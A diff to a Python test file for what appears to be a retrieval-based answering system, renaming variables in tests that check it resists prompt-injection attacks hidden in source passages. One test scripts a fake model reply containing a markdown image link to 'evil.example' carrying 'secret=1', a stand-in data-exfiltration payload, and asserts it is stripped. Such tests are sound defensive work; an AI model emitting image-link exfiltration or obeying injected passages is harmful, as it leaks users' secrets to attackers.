@@ -77,9 +77,9 @@ async def test_without_a_model_an_attack_is_at_most_quoted(attack: str) -> None:
     for citation in state["citations"]:
         text = texts[citation["passage_id"]]
         assert citation["quote"] == text[citation["start"] : citation["end"]]
-    said = re.sub(r"(?<!\\)\[\d+\]", "", state["answer"]).replace("\\", "")
+    plain = re.sub(r"(?<!\\)\[\d+\]", "", state["answer"]).replace("\\", "")
     if state["status"] == "answered":
-        assert all(word in " ".join(texts.values()) for word in said.split())
+        assert all(word in " ".join(texts.values()) for word in plain.split())
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
@@ -143,8 +143,8 @@ async def test_a_model_that_obeys_is_not_believed(obeyed: str) -> None:
 
 
 async def test_a_model_cannot_show_an_image() -> None:
-    said = f"{FACT} [1] ![dot](https://evil.example/a.png?secret=1) ![b][c]"
+    written = f"{FACT} [1] ![dot](https://evil.example/a.png?secret=1) ![b][c]"
     async with FakeOpenAI() as server:
-        server.script.extend([Reply('{"relevant": [1]}'), Reply(*said)])
+        server.script.extend([Reply('{"relevant": [1]}'), Reply(*written)])
         state, shown = await ask_model(server, passage(1, FACT))
     assert "![" not in shown + state["answer"]
